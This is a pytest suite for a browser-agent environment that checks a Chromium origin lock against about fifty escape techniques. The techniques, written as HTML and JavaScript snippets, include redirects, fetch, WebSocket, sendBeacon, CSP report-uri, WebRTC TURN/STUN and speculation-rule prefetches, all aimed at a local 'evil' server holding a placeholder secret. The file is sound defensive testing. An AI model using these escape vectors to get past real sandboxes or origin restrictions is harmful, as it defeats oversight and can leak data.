"""The origin lock against a real Chromium: every way out tried against a server that counts.

Two servers on 127.0.0.1: the allowed one serves one page per escape vector (and redirects on
demand); the other one is not allowed, answers anything with `EVIL-SECRET` (with permissive
CORS, so a page that reached it could read it), and counts every TCP connection and UDP datagram
it receives. A vector holds when that server saw nothing, the secret is in no observation, and
the attempt was reported in an observation's `blocked`.

`test_the_lock_holds` runs each vector locked; `test_the_vector_fires_when_allowed` runs it with
the other server allowed, to show that the vector does reach it when nothing stops it. The fast
suite runs a handful; `-m slow` runs them all.
"""

from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from string import Template
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import pytest_asyncio
from tapeagents.environments.browser import BrowserEnvironment, Click, Goto, PageObservation, Scroll

from tapeagents import Tape
from tapeagents.environment import observe

pytestmark = pytest.mark.asyncio(loop_scope="module")

SECRET = "EVIL-SECRET"
HOSTS = ("127.0.0.1", "localhost")
"""The other server's names (it listens on 127.0.0.1)."""


# ------------------------------------------------------------------------------ the vectors


@dataclass(frozen=True)
class Vector:
    """One way a page (or the agent) might reach the other origin."""

    name: str
    page: str
    """The HTML the allowed server serves for this vector (`$evil`, `$good`, `$to_evil`, ...)."""
    act: str = "load"
    """"load" (opening the page is the attempt), "click" (on `#go`), or "goto" (`target`)."""
    target: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    """Response headers of the page."""
    reported: bool = True
    """Whether the attempt shows in `blocked` (a preconnect or a blocked service worker sends
    no request at all)."""
    fires: bool = True
    """Whether the vector reaches the other server when it is allowed (some never do in
    headless Chromium; they are kept, as they must stay blocked if they ever start to)."""
    fast: bool = False
    """Part of the default (fast) suite."""


SHOW = "then(r => r.text()).then(t => document.body.append(t)).catch(e => 0)"
GO = '<button id="go" onclick="{}">Go</button>'


def _worker(code: str) -> str:
    return (
        "<script>const w = new Worker(URL.createObjectURL(new Blob([`" + code + "`], "
        "{type: 'text/javascript'}))); w.onmessage = (e) => document.body.append(e.data);"
        "</script>"
    )


VECTORS: list[Vector] = [
    # -- redirects from the allowed origin to the other one (each hop is checked)
    Vector("redirect: image", '<img src="$to_evil.png" alt="">', fast=True),
    Vector("redirect: fetch", f'<script>fetch("$to_evil").{SHOW}</script>', fast=True),
    Vector(
        "redirect: XMLHttpRequest",
        "<script>const x = new XMLHttpRequest(); "
        "x.onload = () => document.body.append(x.responseText); "
        'x.open("GET", "$to_evil"); x.send();</script>',
    ),
    Vector("redirect: script", '<script src="$to_evil.js"></script>'),
    Vector("redirect: stylesheet", '<link rel="stylesheet" href="$to_evil.css">'),
    Vector("redirect: iframe", '<iframe src="$to_evil"></iframe>', fast=True),
    Vector("redirect: link click", '<a id="go" href="$to_evil">Go</a>', act="click", fast=True),
    Vector("redirect: Goto", "<p>Start</p>", act="goto", target="$to_evil", fast=True),
    Vector("redirect: 301", f'<script>fetch("$good/redirect?code=301&to=$evil/a").{SHOW}</script>'),
    Vector("redirect: 303", f'<script>fetch("$good/redirect?code=303&to=$evil/a").{SHOW}</script>'),
    Vector(
        "redirect: 307 POST",
        '<script>fetch("$good/redirect?code=307&to=$evil/a", '
        f'{{method: "POST", body: "x"}}).{SHOW}</script>',
    ),
    Vector("redirect: 308", f'<script>fetch("$good/redirect?code=308&to=$evil/a").{SHOW}</script>'),
    Vector(
        "redirect: chain of two",
        '<script>fetch("$good/redirect?to='
        + f'$good/redirect%3Fto%3D$evil/chain").{SHOW}</script>',
    ),
    Vector(
        "redirect: form POST (307)",
        '<form method="post" action="$good/redirect?code=307&to='
        '$evil/form"><input name="q" value="1"><button id="go">Send</button></form>',
        act="click",
    ),
    Vector("redirect: window.open", GO.format("window.open('$to_evil')"), act="click"),
    Vector("redirect: meta refresh", '<meta http-equiv="refresh" content="0;url=$to_evil">'),
    Vector("redirect: location by script", '<script>location.href = "$to_evil";</script>'),
    Vector(
        "redirect: Refresh header", '<script>location.href = "$good/refresh?to=$evil/r";</script>'
    ),
    Vector(
        "redirect: to https",
        '<img src="$good/redirect?to=https://127.0.0.1:$evil_port/x.png" alt="">',
    ),
    Vector(
        "redirect: EventSource",
        '<script>new EventSource("$to_evil").onmessage = '
        "(e) => document.body.append(e.data);</script>",
    ),
    Vector(
        "redirect: worker fetch",
        _worker('fetch("$to_evil").then(r => r.text()).then(t => postMessage(t))'),
    ),
    Vector(
        "redirect: speculation-rules prefetch",
        '<script type="speculationrules">'
        '{"prefetch": [{"source": "list", "urls": ["$to_evil"]}]}</script>',
        fast=True,
    ),
    Vector(
        "redirect: speculation-rules prerender",
        '<script type="speculationrules">'
        '{"prerender": [{"source": "list", "urls": ["$to_evil"]}]}</script>',
    ),
    Vector("redirect: link rel=prefetch", '<link rel="prefetch" href="$to_evil">'),
    Vector(
        "redirect: favicon", '<link rel="icon" href="$to_evil.png">', reported=False, fires=False
    ),
    # -- requests straight to the other origin
    Vector("direct: image", '<img src="$evil/a.png" alt="">'),
    Vector("direct: fetch", f'<script>fetch("$evil/a").{SHOW}</script>'),
    Vector("direct: Goto", "<p>Start</p>", act="goto", target="$evil/page"),
    Vector("direct: link click", '<a id="go" href="$evil/page">Go</a>', act="click"),
    Vector(
        "direct: popup link", '<a id="go" href="$evil/page" target="_blank">Go</a>', act="click"
    ),
    Vector(
        "direct: form POST",
        '<form method="post" action="$evil/form"><input name="q" '
        'value="1"><button id="go">Send</button></form>',
        act="click",
    ),
    Vector(
        "direct: WebSocket",
        '<script>new WebSocket("ws://127.0.0.1:$evil_port/ws")'
        ".onmessage = (e) => document.body.append(e.data);</script>",
        fast=True,
    ),
    Vector(
        "direct: EventSource",
        '<script>new EventSource("$evil/events").onmessage = '
        "(e) => document.body.append(e.data);</script>",
    ),
    Vector("direct: sendBeacon", '<script>navigator.sendBeacon("$evil/beacon", "x");</script>'),
    Vector(
        "direct: a ping",
        '<a id="go" href="$good/blank" ping="$evil/ping">Go</a>',
        act="click",
        reported=False,
        fires=False,
    ),
    Vector("direct: worker importScripts", _worker('importScripts("$evil/w.js")')),
    Vector(
        "direct: iframe srcdoc fetch",
        "<iframe srcdoc=\"<script>fetch('$evil/a')</script>\"></iframe>",
    ),
    Vector("direct: CSS @import", '<style>@import url("$evil/i.css");</style>'),
    Vector(
        "direct: web font",
        '<style>@font-face {font-family: f; src: url("$evil/f.woff");} '
        "p {font-family: f;}</style><p>Text</p>",
    ),
    Vector("direct: video", '<video src="$evil/v.mp4" autoplay muted></video>'),
    Vector("direct: object", '<object data="$evil/page" type="text/html"></object>'),
    Vector("direct: base href", '<base href="$evil/"><img src="a.png" alt="">'),
    Vector(
        "direct: other spelling (localhost)", '<img src="http://localhost:$evil_port/a.png" alt="">'
    ),
    Vector(
        "direct: Link preload header",
        "<p>Start</p>",
        headers=(("Link", "<$evil/lh>; rel=preload; as=fetch; crossorigin"),),
    ),
    Vector(
        "direct: CSP report-uri",
        '<img src="$good/blank.png" alt="">',
        headers=(("Content-Security-Policy", "img-src 'none'; report-uri $evil/csp"),),
    ),
    Vector(
        "direct: link rel=preconnect",
        '<link rel="preconnect" href="$evil">',
        reported=False,
        fires=False,  # through a proxy, a preconnect opens a connection to the proxy only
    ),
    Vector(
        "direct: speculation-rules prefetch",
        '<script type="speculationrules">'
        '{"prefetch": [{"source": "list", "urls": ["$evil/p"]}]}</script>',
    ),
    Vector(
        "direct: WebRTC TURN over TCP",
        "<script>const pc = new RTCPeerConnection("
        '{iceServers: [{urls: "turn:127.0.0.1:$evil_port?transport=tcp", username: "u", '
        'credential: "p"}]}); pc.createDataChannel("d"); '
        "pc.createOffer().then((o) => pc.setLocalDescription(o));</script>",
        reported=True,
    ),
    Vector(
        "direct: WebRTC STUN over UDP",
        "<script>const pc = new RTCPeerConnection("
        '{iceServers: [{urls: "stun:127.0.0.1:$evil_port"}]}); pc.createDataChannel("d"); '
        "pc.createOffer().then((o) => pc.setLocalDescription(o));</script>",
        reported=False,
        fires=False,
    ),
    Vector(
        "direct: service worker fetch",
        '<script>navigator.serviceWorker.register("sw.js")</script>',
        reported=False,
        fires=False,  # service workers are off
    ),
]


# ------------------------------------------------------------------------------ the servers


class CountingServer(ThreadingHTTPServer):
    """The origin that is not allowed: answers with the secret, counts every connection."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _SecretHandler)
        self.connections = 0
        self.datagrams = 0
        self.paths: list[str] = []
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.server_port))
        self._udp.settimeout(0.2)
        self._serving = True
        threading.Thread(target=self._count_datagrams, daemon=True).start()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def hits(self) -> int:
        return self.connections + self.datagrams

    def get_request(self) -> tuple[socket.socket, Any]:
        self.connections += 1
        return super().get_request()

    def _count_datagrams(self) -> None:
        while self._serving:
            try:
                self._udp.recvfrom(4096)
            except OSError:
                continue
            self.datagrams += 1

    def handle_error(self, request: Any, client_address: Any) -> None:
        pass  # a browser that hangs up (a TURN client, a cancelled request) is expected

    def stop(self) -> None:
        self._serving = False
        self.shutdown()
        self.server_close()
        self._udp.close()


class _SecretHandler(BaseHTTPRequestHandler):
    server: CountingServer

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _answer(self) -> None:
        self.server.paths.append(self.path)
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        path = urlsplit(self.path).path
        kinds = {
            ".js": (
                "text/javascript",
                f'document.body.append("{SECRET}"); postMessage("{SECRET}")',
            ),
            ".css": ("text/css", f'body::before {{content: "{SECRET}";}}'),
            ".json": ("application/json", f'{{"name": "{SECRET}"}}'),
        }
        kind, body = next(
            (v for k, v in kinds.items() if path.endswith(k)),
            ("text/html", f"<title>{SECRET}</title><p>{SECRET}</p>"),
        )
        if path.endswith("/events"):
            kind, body = "text/event-stream", f"data: {SECRET}\n\n"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Access-Control-Allow-Methods", "*")
        self.send_header("Access-Control-Allow-Headers", "*")
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    do_GET = do_POST = do_OPTIONS = _answer


class PageServer(ThreadingHTTPServer):
    """The allowed origin: a page per vector, `/redirect?code=302&to=URL`, `/refresh?to=URL`."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _PageHandler)
        self.values: dict[str, str] = {}
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"

    def fill(self, text: str) -> str:
        return Template(text).safe_substitute(self.values)

    def stop(self) -> None:
        self.shutdown()
        self.server_close()


def slug(vector: Vector) -> str:
    """The vector's page path on the allowed server."""
    return vector.name.replace(" ", "-").replace(":", "")


VECTORS_BY_SLUG = {slug(v): v for v in VECTORS}


class _PageHandler(BaseHTTPRequestHandler):
    server: PageServer

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body_text = self.rfile.read(length).decode() if length else ""
        parts = urlsplit(self.path)
        query = {k: v[0] for k, v in parse_qs(parts.query).items()}
        if parts.path == "/echo":  # the body back, for a check that forwarding is exact
            self._send("text/plain", body_text, ())
            return
        if parts.path == "/selftest":
            self._send("text/html", _SELFTEST, ())
            return
        if parts.path == "/redirect":
            self.send_response(int(query.get("code", "302")))
            self.send_header("Location", query["to"])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        headers: tuple[tuple[str, str], ...] = ()
        if parts.path == "/refresh":
            headers, body = (("Refresh", f"0; url={query['to']}"),), "<p>Refreshing</p>"
        elif parts.path.endswith("/sw.js"):
            self._send("text/javascript", self.server.fill('fetch("$evil/sw")'), ())
            return
        elif parts.path.startswith("/v/") and parts.path[3:] in VECTORS_BY_SLUG:
            vector = VECTORS_BY_SLUG[parts.path[3:]]
            headers, body = vector.headers, vector.page
        else:
            body = "<title>Blank</title><p>Blank</p>"
        page = f"<!DOCTYPE html><html><head><title>Vector</title></head><body>{body}</body></html>"
        filled = tuple((name, self.server.fill(value)) for name, value in headers)
        self._send("text/html", self.server.fill(page), filled)

    def _send(self, kind: str, body: str, headers: tuple[tuple[str, str], ...]) -> None:
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = _answer


_SELFTEST = """<!DOCTYPE html><title>Self-test</title><p id="out">running</p><script>
(async () => {
  const sent = "x".repeat(300000) + "\\u00e9";
  const back = await (await fetch("/echo", {method: "POST", body: sent})).text();
  const moved = await fetch("/redirect?to=/echo", {method: "POST", body: sent});
  const result = [sent.length, back.length, back === sent, moved.status].join(" ");
  document.getElementById("out").textContent = "result: " + result;
})();
</script>"""


@dataclass
class Servers:
    pages: PageServer
    other: CountingServer


@pytest.fixture(scope="module")
def servers() -> Iterator[Servers]:
    pages, other = PageServer(), CountingServer()
    evil = f"http://127.0.0.1:{other.server_port}"
    pages.values = {
        "good": pages.origin,
        "evil": evil,
        "evil_port": str(other.server_port),
        "to_evil": f"{pages.origin}/redirect?to={evil}/secret",
    }
    yield Servers(pages, other)
    pages.stop()
    other.stop()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def env(servers: Servers) -> AsyncIterator[BrowserEnvironment]:
    async with BrowserEnvironment(
        allowed_origins=[servers.pages.origin], action_timeout=2.0, navigation_timeout=5.0
    ) as env:
        yield env


# ------------------------------------------------------------------------------ attempts


async def attempt(env: BrowserEnvironment, servers: Servers, vector: Vector) -> Tape[Any, Any]:
    """Open the vector's page, do its action, give late requests time; the whole tape."""
    tape = await env.start_tape(url=f"{servers.pages.origin}/v/{slug(vector)}")
    actions: list[Any] = []
    if vector.act == "click":
        actions.append(Click(ref="css=#go"))
    elif vector.act == "goto":
        actions.append(Goto(url=servers.pages.fill(vector.target)))
    for action in [*actions, *[Scroll(direction="down")] * 6]:
        tape.append(action)
        tape.append(await observe(env, action, tape))
        if isinstance(action, Scroll):
            await asyncio.sleep(0.25)  # timers, workers, prefetches and retries happen late
    await env.close_session(tape)
    await asyncio.sleep(0.1)
    return tape


def reports(tape: Tape[Any, Any], port: int) -> list[str]:
    return [
        request
        for step in tape.steps
        if isinstance(step, PageObservation)
        for request in step.blocked
        if f":{port}" in request
    ]


def _params(vectors: list[Vector]) -> list[Any]:
    return [pytest.param(v, id=v.name, marks=() if v.fast else pytest.mark.slow) for v in vectors]


@pytest.mark.parametrize("vector", _params(VECTORS))
async def test_the_lock_holds(env: BrowserEnvironment, servers: Servers, vector: Vector) -> None:
    other = servers.other
    before, paths = other.hits, len(other.paths)
    tape = await attempt(env, servers, vector)
    assert other.hits == before, f"the other origin was reached: {other.paths[paths:]}"
    observations = [s for s in tape.steps if isinstance(s, PageObservation)]
    assert all(SECRET not in o.model_dump_json() for o in observations)
    if vector.reported:
        assert reports(tape, other.server_port), [o.blocked for o in observations]


@pytest.mark.slow
@pytest.mark.parametrize("vector", [v for v in VECTORS if v.fires], ids=lambda v: v.name)
async def test_the_vector_fires_when_allowed(
    env: BrowserEnvironment, servers: Servers, vector: Vector
) -> None:
    other = servers.other
    port = other.server_port
    opened = {f"{scheme}://{host}:{port}" for scheme in ("http", "ws") for host in HOSTS}
    before = other.hits
    env.allowed_origins |= opened
    try:
        await attempt(env, servers, vector)
    finally:
        env.allowed_origins -= opened
    assert other.hits > before


async def test_a_goto_that_is_redirected_away_is_refused_where_it_was(
    env: BrowserEnvironment, servers: Servers
) -> None:
    start = f"{servers.pages.origin}/blank"
    tape = await env.start_tape(url=start)
    target = servers.pages.fill("$to_evil")
    tape.append(Goto(url=target))
    page = await observe(env, tape.last, tape)
    await env.close_session(tape)
    assert isinstance(page, PageObservation)
    assert page.error is not None and page.error.startswith(f"Navigation to {target} was blocked")
    assert f"it led to {servers.pages.values['evil']}/secret" in page.error
    assert page.url == start and page.blocked == [f"GET {servers.pages.values['evil']}/secret"]


async def test_allowed_requests_pass_the_proxy_intact(
    env: BrowserEnvironment, servers: Servers
) -> None:
    tape = await env.start_tape(url=f"{servers.pages.origin}/selftest")
    for _ in range(20):
        action = Scroll(direction="down")
        tape.append(action)
        page = await observe(env, action, tape)
        tape.append(page)
        assert isinstance(page, PageObservation)
        if "result:" in page.snapshot:
            break
        await asyncio.sleep(0.1)
    await env.close_session(tape)
    # 300,001 characters out and back, equal; a 302 within the allowed origin is followed
    assert "result: 300001 300001 true 200" in page.snapshot
